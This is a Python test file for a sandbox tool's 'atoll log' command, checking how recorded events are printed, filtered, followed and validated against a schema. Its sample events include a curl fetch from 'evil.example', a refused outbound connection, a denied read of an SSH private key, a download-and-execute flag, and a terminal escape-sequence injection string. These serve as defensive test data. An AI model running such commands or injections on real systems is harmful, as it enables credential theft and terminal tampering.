# SPDX-License-Identifier: Apache-2.0
# check: seconds 68
# check: user only
"""Reading a record: `atoll log`, its tree, its list, and the schema of events."""
import fcntl
import json
import os
import re
import subprocess
import sys

sys.dont_write_bytecode = True
sys.path.insert(0, os.path.join(os.path.dirname(os.path.abspath(__file__)), ".."))
from lib import *  # noqa: E402
import eventlog  # noqa: E402
from terminal import on_terminal  # noqa: E402

ROOT = os.environ.get("ATOLL_ROOT") or os.path.abspath(os.path.join(os.path.dirname(os.path.abspath(__file__)), "..", ".."))

# What a stranger may put into names and arguments: a terminal's orders, ends of lines, turned text, bytes that are no UTF-8.
EVIL = "\x1b]0;owned\x07\x1b[2J\x9b5n\r\nopen: forged\t\u202egnp\udcff\x7f"


def log(place, *args, status=0, **options):
    result = atoll(place, "log", *args, **options)
    same(result.status, status, "log %s: %s" % (" ".join(args), result.err))
    return result


def kinds(result):
    return [json.loads(line)["kind"] for line in result.out.splitlines()]


@test("every kind of event has its line: time, kind, who and what, and what would allow it")
def _():
    with Place(repository=False) as place:
        sample = eventlog.sample(place.ws)
        sample.write(place)
        lines = log(place, env={"TZ": "UTC"}).out.splitlines()
        same(lines[0], "Monday, 2026-11-16, UTC (UTC+0000)", "the day")
        same(len(lines), len(sample.lines) + 1, "a line an event")
        for event, line in zip(sample.events(), lines[1:]):
            same(line.split()[:2], [event["time"][11:23], event["kind"]], "how a line begins")
            check(line.isprintable(), "not one line of text: %r" % line)
        whole = "\n".join(lines)
        for part in ("npm test  in %s (layer); weaker: memory, network (missing)" % place.ws,
                     "    7 node           /bin/sh -c 'node test.js && ./build '\\''all'\\'''\n",
                     "/usr/bin/curl -s https://evil.example/x …\n",
                     "registry.npmjs.org:443 (104.16.3.35) allowed by preset npm, GET /left-pad",
                     "evil.example:443 refused, 3 times: not allowed",
                     "write /etc/hosts: not a writable place (allow with --write /etc/hosts)",
                     "read /home/anna/.ssh/id_ed25519, 2 times: hidden: credentials\n", "added .git/hooks/post-commit",
                     "[git hooks]\n", "renamed old name -> new name", "deleted gone (directory)", "allowed, once, by anna (uid 1000)",
                     "processes of 512, used 512: fork was refused", "flag, by rule:download-and-execute: curl wrote",
                     "4 events could not be told", "exited with 1 after 2.2 s", "36 lines signed, the log is closed", '{"novel":',
                     "apply: conflict, 1 held back, 2 conflicts: changed on the host"):
            check(part in whole, "%r is not in it:\n%s" % (part, whole))


@test("RUN is an id, a beginning, a path, or the latest of this directory; --list has them all")
def _():
    with Place(repository=False) as place:
        same(log(place, status=240).out, "", "without any")
        check("there is no log" in log(place, "--list").out, "an empty list")
        elsewhere = eventlog.sample("/somewhere/else", run="abcdefgh")
        other = elsewhere.write(place)
        result = log(place, status=240)
        check("--list' shows 1 of others" in result.err, "where to look: " + result.err)
        mine = eventlog.sample(place.ws, run="abcqqqqq")
        path = mine.write(place)
        os.utime(other, (2e9, 2e9))
        for args, wanted in (((), "abcqqqqq"), (("abcd",), "abcdefgh"), (("abcqqqqq",), "abcqqqqq"), ((other,), "abcdefgh")):
            first = log(place, "--json", *args).out.splitlines()[0]
            same(json.loads(first)["run"], wanted, "log %s" % (args,))
        os.mkdir(place.ws + "/sub")
        place.expect("sub")
        check("abcqqqqq" in log(place, cwd=place.ws + "/sub").out, "from beneath")
        for bad, said in (("abc", "2 logs begin with"), ("zzz", "there is no log of a run 'zzz'"), ("", "empty"), ("./nothing", "No such file"),
                          ("/dev/null", "no plain file"), ("/etc/passwd", "line 1 of")):
            result = log(place, bad, status=240)
            check(said in result.err and result.err.count("\n") == 1, "%r: %s" % (bad, result.err))
        listed = log(place, "--list").out.splitlines()
        check(listed[1].startswith("abcdefgh") and listed[2].startswith("abcqqqqq"), "the latest first: %s" % listed)
        check(listed[2].endswith("npm test  in " + place.ws), "what it was: " + listed[2])
        entry = [json.loads(line) for line in log(place, "--list", "--json").out.splitlines()][1]
        same((entry["run"], entry["workspace"], entry["argv"]), ("abcqqqqq", place.ws, ["npm", "test"]), "the list for programs")
        os.symlink("/etc/passwd", os.path.join(os.path.dirname(path), "linkedxx.jsonl"))
        same(len(log(place, "--list").out.splitlines()), 3, "a link is no log")


@test("filters: kinds, steps, times, denials; --json has the lines as they are")
def _():
    with Place(repository=False) as place:
        sample = eventlog.sample(place.ws)
        sample.step = 2
        sample.add("exec", pid=40, parent=1, program="x", path="/bin/true", argv=["true"], argc=1, cut=False, hash=None, script=False)
        sample.write(place)
        same(log(place, "--json").raw_out, sample.text(), "byte for byte")
        same(set(kinds(log(place, "--json", "--kind", "exec"))), {"exec"}, "one kind")
        same(len(kinds(log(place, "--json", "--kind", "exec"))), 6, "how many of it")
        same(set(kinds(log(place, "--json", "--kind=exec,end"))), {"exec", "end"}, "two kinds")
        same(kinds(log(place, "--json", "--step", "2")), ["exec"], "a step")
        same(len(kinds(log(place, "--json", "--since", "2026-11-16T10:45:39.429Z"))), 3, "since a time")
        same(kinds(log(place, "--json", "--since", "2100-01-01")), [], "since one to come")
        same(len(kinds(log(place, "--json", "--since", "20000d"))), len(sample.lines), "since long ago")
        denials = kinds(log(place, "--json", "--denials"))
        same(sorted(denials), ["connection", "denial", "denial", "denial", "limit"], "what was refused")
        text = log(place, "--denials").out
        check(re.search(r"write /etc/hosts: not a writable place\n +allow with --write /etc/hosts\n", text), "how to allow: " + text)
        for args, said in ((("--kind", "exek"), "did you mean 'exec'"), (("--kind", ""), "no kind"), (("--step", "0"), "no number"),
                           (("--step", "x"), "no number"), (("--since", "tomorrow"), "is no time"), (("--tree", "--json"), "exclude"),
                           (("--tree", "-f"), "not with"), (("--list", "abc"), "leave 'abc' out"), (("a", "b"), "unexpected argument"),
                           (("--jsno",), "did you mean '--json'")):
            result = log(place, *args, status=240)
            check(said in result.err, "%s: %s" % (args, result.err))


@test("a tree: each process with what it did, those that executed nothing passed over")
def _():
    with Place(repository=False) as place:
        eventlog.sample(place.ws).write(place)
        same(log(place, "--tree", env={"LANG": "C"}).out.splitlines(), """\
step 1: npm test  in WS (layer); weaker: memory, network (missing)
|  limit processes of 512, used 512: fork was refused
+- 2 /usr/bin/npm test
   |  then /usr/bin/node /usr/bin/npm test
   +- 7 /bin/sh -c 'node test.js && ./build '\\''all'\\'''
      |  denial read /home/anna/.ssh/id_ed25519, 2 times: hidden: credentials
      +- 8 /usr/bin/node test.js
      |     connection registry.npmjs.org:443 (104.16.3.35) allowed by preset npm, GET /left-pad, sent 812 B, received 52 KiB, 231 ms
      |     connection localhost:5432 (127.0.0.1) failed: Connection refused, 1 ms
      |     denial write /etc/hosts: not a writable place (allow with --write /etc/hosts)
      |     denial call ptrace: system call
      +- 13 /usr/bin/curl -s https://evil.example/x … (through 12)
            connection evil.example:443 refused, 3 times: not allowed, 0 ms (allow with --allow evil.example)""".replace("WS", place.ws).splitlines(), "the tree")


@test("a tree of numbers that were used again, and one that is deeper than any screen")
def _():
    with Place(repository=False) as place:
        deep = eventlog.Log()
        eventlog.begin(deep, place.ws)

        def execute(pid, parent, program, path):
            deep.add("exec", pid=pid, parent=parent, program=program, path=path, argv=[path], argc=1, cut=False, hash=None, script=False)
        execute(2, 1, "atoll", "/bin/sh")
        execute(5, 2, "sh", "/bin/one")
        execute(5, 2, "sh", "/bin/two")
        same([line[3:] for line in log(place_with(place, deep), "--tree", env={"LANG": "C"}).out.splitlines()[2:]],
             ["+- 5 /bin/one", "+- 5 /bin/two"], "two processes of one number")
        for i in range(6, 20000):
            execute(i, i - 1, "two", "/bin/two")
        tree = log(place_with(place, deep), "--tree").out.splitlines()
        same(len(tree), 20000 - 6 + 4, "all of them")
        check(max(map(len, tree)) < 250, "a line is %d long" % max(map(len, tree)))


def place_with(place, written):
    written.write(place)
    return place


@test("what strangers have written does nothing to a terminal, and forges no line")
def _():
    with Place(repository=False) as place:
        sample = eventlog.sample(place.ws, text=EVIL)
        sample.write(place)
        for args in ((), ("--tree",), ("--denials",), ("--list",)):
            seen = on_terminal(place, "log", *args, env={"PAGER": "cat", "TERM": "xterm"})
            text = re.sub(rb"\x1b\[[0-9;]*m", b"", seen).replace(b"\r\n", b"\n")
            check(not re.search(rb"[\x00-\x09\x0b-\x1f\x7f]|\xc2[\x80-\x9f]|\xe2\x80\xae|\xff", text), "%s: %r" % (args, text[:3000]))
            check(b"\\x1b]0;owned\\x07" in text, "%s shows it quoted" % (args,))
            check(not re.search(rb"(^|\n)open: forged", text), "a forged line")
        same(len(log(place).out.splitlines()), len(sample.lines) + 1, "lines")
        plain_colours = on_terminal(place, "log", env={"PAGER": "cat", "NO_COLOR": "1"})
        check(b"\x1b" not in plain_colours, "colours that were not wanted")
        check(b"\x1b" not in log(place).out.encode(), "colours in a file")


@test("a line that is no event is named, the others are shown, and the status says so")
def _():
    with Place(repository=False) as place:
        sample = eventlog.sample(place.ws)
        sample.raw("{not json")
        sample.raw("x" * (5 << 20))
        sample.add("end", end="exited", code=0, status=0)
        path = sample.write(place)
        with open(path, "ab") as file:
            file.write(b'{"half')
        result = log(place, "--kind", "end", status=241)
        same(len(result.out.splitlines()), 3, "the ends of both")
        check(re.search("line %d of .* is no event: .*atoll verify" % (len(sample.lines) - 2), result.err), "the bad line: " + result.err)
        check("line %d of" % (len(sample.lines) - 1) in result.err and "too long" in result.err, "the long line: " + result.err)


@test("-f goes on until the run has ended, and stops when nobody writes any more")
def _():
    with Place(repository=False) as place:
        whole = eventlog.sample(place.ws)
        half = eventlog.Log()
        half.lines = whole.lines[:10]
        path = half.write(place)
        with open(path, "ab") as file:
            fcntl.flock(file, fcntl.LOCK_EX)
            child = subprocess.Popen([ATOLL, "log", "-f", "--json"], cwd=place.ws, stdout=subprocess.PIPE, env=caller_environment(place))
            for line in whole.lines[:10]:
                same(child.stdout.readline(), line + b"\n", "what was there")
            for line in whole.lines[10:]:
                file.write(line[:20])
                file.flush()
                file.write(line[20:] + b"\n")
                file.flush()
                same(child.stdout.readline(), line + b"\n", "what was added")
            same(child.stdout.read(), b"", "behind the end")
            same(child.wait(), 0, "its status")
        half.write(place)
        result = log(place, "-f")
        same(len(result.out.splitlines()), 11, "what is there")
        check("nobody writes this log any more" in result.err, "and why it ended: " + result.err)


@test("100,000 events (with the sanitizers a tenth) are shown at once")
def _():
    with Place(repository=False) as place:
        many = 10000 if IS_SANITIZED else 100000
        eventlog.big(many, place.ws).write(place)
        result = log(place)
        same(len(result.out.splitlines()), many + 6, "lines")
        check(result.seconds < 15, "it took %.1f s" % result.seconds)
        same(len(log(place, "--tree").out.splitlines()), many // 10 * 9 + 2, "of the tree")


@test("a real run: what it executed, what was refused, what it changed, how it ended; each line by the schema")
def _():
    with Place() as place:
        result = run(place, [], "echo more >>f; mkdir %s/new; (sleep 0.01; ls); exit 3" % place.out, mode="layer")
        same(result.status, 3, "the run: " + result.err)
        lines = log(place, "--json").out.splitlines()
        whole = schema_of(place)
        for line in lines:
            same(Schema(whole).why(json.loads(line), whole), None, "by the schema: " + line)
        text = log(place).out
        same(len(text.splitlines()), len(lines) + 1, "a line each")
        for part in ("start .*sh -c 'echo more", "exec .*/(sleep|coreutils) .*0.01", "denial .* create %s" % place.base, "change .* changed f, ",
                     "end .* exited with 3 after", "head .* the log is closed"):
            check(re.search(part, text), "%s is not in it:\n%s" % (part, text))
        tree = log(place, "--tree", env={"LANG": "C"}).out
        check(re.search(r"\n   \+- \d+ /\S*(sleep|coreutils)", tree), "who slept was started by the shell:\n" + tree)
        same(len(log(place, "-f").out.splitlines()), len(lines) + 1, "followed, when it has ended")


@test("-f beside a real run")
def _():
    with Place() as place:
        child = subprocess.Popen([ATOLL, "run", "--direct", "--", "sh", "-c", "echo ready; read line; /bin/cat /dev/null"], cwd=place.ws, stdin=subprocess.PIPE,
                                 stdout=subprocess.PIPE, stderr=subprocess.DEVNULL, env=caller_environment(place))
        same(child.stdout.readline(), b"ready\n", "it runs")
        check(until(lambda: atoll(place, "log", "--json").out), "its log can be read")
        follower = subprocess.Popen([ATOLL, "log", "-f", "--json"], cwd=place.ws, stdout=subprocess.PIPE, env=caller_environment(place))
        same(json.loads(follower.stdout.readline())["kind"], "open", "the first line")
        child.communicate(b"go\n")
        rest = [json.loads(line) for line in follower.stdout.read().splitlines()]
        same(follower.wait(), 0, "it ends with the run")
        same([event["kind"] for event in rest][-1], "head", "with the last line")
        check(any(event["kind"] == "exec" and event["path"].endswith("cat") for event in rest), "what came later: %s" % rest)


@test("a sandbox, by its name: step by step")
def _():
    need_layers()
    with Place() as place:
        same(atoll(place, "create", "--name", "box").status, 0, "create")
        try:
            same(atoll(place, "exec", "box", "--", "sh", "-c", "echo 1 >one").status, 0, "the first step")
            same(atoll(place, "exec", "box", "--", "sh", "-c", "ls; exit 4").status, 4, "the second")
            lines = [json.loads(line) for line in log(place, "box", "--json").out.splitlines()]
            same([event["step"] for event in lines if event["kind"] == "start"], [1, 2], "steps")
            whole = schema_of(place)
            for event in lines:
                same(Schema(whole).why(event, whole), None, "by the schema: %s" % event)
            second = [json.loads(line) for line in log(place, "box", "--json", "--step", "2").out.splitlines()]
            same({event["step"] for event in second}, {2}, "of the second step")
            check("step 2: sh -c 'ls; exit 4'" in log(place, "box").out, "which step it is")
            same(len(re.findall("(?m)^step [12]: ", log(place, "box", "--tree").out)), 2, "steps of the tree")
            page = atoll(place, "report", "box", "--html", "-")
            check("(and 1 more step)</h1>" in page.out and "exited with 4</p>" in page.out, "its report")
            follower = subprocess.Popen([ATOLL, "log", "box", "-f", "--json"], cwd=place.ws, stdout=subprocess.PIPE, env=caller_environment(place))
            for line in log(place, "box", "--json").raw_out.splitlines(True):
                same(follower.stdout.readline(), line, "followed")
            same(atoll(place, "exec", "box", "--", "true").status, 0, "a third step")
        finally:
            atoll(place, "rm", "--force", "box")
        check(b'"step":3' in follower.communicate(timeout=30)[0], "goes on with the next step, and ends with the sandbox")


# ---- the schema ----

class Schema:
    """As much of JSON Schema as ours uses; a word that is not known here is an error."""

    def __init__(self, whole):
        self.whole = whole

    def why(self, data, schema, where="event"):
        types = {"object": dict, "array": list, "string": str, "integer": int, "boolean": bool, "null": type(None)}
        for word, value in schema.items():
            if word in ("$schema", "title", "description", "$defs", "properties", "items", "examples"):
                continue
            if word == "$ref":
                wrong = self.why(data, self.whole["$defs"][value.rsplit("/", 1)[1]], where)
            elif word == "type":
                names = value if isinstance(value, list) else [value]
                fits = [n for n in names if isinstance(data, types[n]) and not (n == "integer" and isinstance(data, bool))]
                wrong = None if fits else "%s is no %s" % (where, value)
            elif word == "const":
                wrong = None if data == value else "%s is not %r" % (where, value)
            elif word == "enum":
                wrong = None if data in value else "%s is none of %r" % (where, value)
            elif word == "pattern":
                wrong = None if not isinstance(data, str) or re.search(value, data) else "%s does not match" % where
            elif word == "minimum":
                wrong = None if not isinstance(data, int) or data >= value else "%s is too small" % where
            elif word == "required":
                wrong = next(("%s lacks %s" % (where, key) for key in value if key not in data), None)
            elif word == "anyOf":
                each = [self.why(data, one, where) for one in value]
                wrong = None if None in each else "; ".join(each)
            elif word == "not":
                wrong = "%s is what it must not be" % where if self.why(data, value, where) is None else None
            else:
                raise Failed("the schema uses %r" % word)
            if wrong:
                return wrong
        if isinstance(data, dict):
            for key, one in schema.get("properties", {}).items():
                wrong = self.why(data[key], one, where + "." + key) if key in data else None
                if wrong:
                    return wrong
        if isinstance(data, list) and "items" in schema:
            return next(filter(None, (self.why(one, schema["items"], where + "[]") for one in data)), None)
        return None


def an_exec():
    return next(event for event in eventlog.sample().events() if event["kind"] == "exec")


def schema_of(place):
    return json.loads(log(place, "--schema").out)


@test("--schema describes every event of a log, and refuses what is none")
def _():
    with Place(repository=False) as place:
        whole = schema_of(place)
        checker = Schema(whole)
        for sample in (eventlog.sample(), eventlog.sample(text=EVIL), eventlog.big(50)):
            for event in sample.events():
                same(checker.why(event, whole), None, "%s by the schema" % event["kind"])
        for change in ({"seq": -1}, {"prev": "x"}, {"time": "now"}, {"kind": 1}, {"argv": "ls"}, {"pid": "7"}, {"hash": "md5:0"}, {"path": None}):
            event = dict(an_exec(), **change)
            check(checker.why(event, whole), "%s is taken" % change)
        for key in ("seq", "kind", "path"):
            event = an_exec()
            del event[key]
            check(checker.why(event, whole), "one without %s is taken" % key)


@test("doc/events.md, the schema and the samples name the same kinds and keys")
def _():
    text = read(os.path.join(ROOT, "doc/events.md")).decode()
    with Place(repository=False) as place:
        whole = schema_of(place)
    rows = {}
    for line in text.split("## Kinds", 1)[1].splitlines():
        cells = [cell.strip() for cell in line.strip("|").split("|")]
        for kind in re.findall("`([a-z-]+)`", cells[0]) if len(cells) == 2 and line.startswith("| `") else ():
            rows[kind] = set(re.findall(r"[a-z0-9_-]+", " ".join(re.findall("`([^`]+)`", cells[1]))))
    kinds_known = {name: d for name, d in whole["$defs"].items() if "const" in d.get("properties", {}).get("kind", {})}
    same(sorted(rows), sorted(kinds_known), "kinds of the page and of the schema")
    for kind, definition in kinds_known.items():
        missing = set(definition["properties"]) - {"kind"} - rows[kind]
        check(not missing, "%s: the page says nothing of %s" % (kind, sorted(missing)))
        known = words_of(definition, whole) | {"seq", "or", "rule", "atoll", "run", "git"}
        unknown = rows[kind] - known
        check(not unknown, "%s: the schema says nothing of %s" % (kind, sorted(unknown)))
    for event in eventlog.sample().events():
        if event["kind"] in kinds_known:
            extra = set(event) - set(whole["properties"]) - set(kinds_known[event["kind"]]["properties"])
            check(not extra, "the sample of %s has %s" % (event["kind"], extra))
    same({e["kind"] for e in eventlog.sample().events()} - {"from-later"}, set(kinds_known), "kinds that the sample has")


def words_of(schema, whole):
    """Every name and value that a schema mentions."""
    found = set()
    if isinstance(schema, dict):
        for key, value in schema.items():
            if key == "$ref":
                found |= words_of(whole["$defs"][value.rsplit("/", 1)[1]], whole)
            elif key == "properties":
                found |= set(value)
            if key in ("enum", "const", "examples"):
                found |= set(" ".join(map(str, value if isinstance(value, list) else [value])).split())
            else:
                found |= words_of(value, whole)
    elif isinstance(schema, list):
        for one in schema:
            found |= words_of(one, whole)
    return found


main()
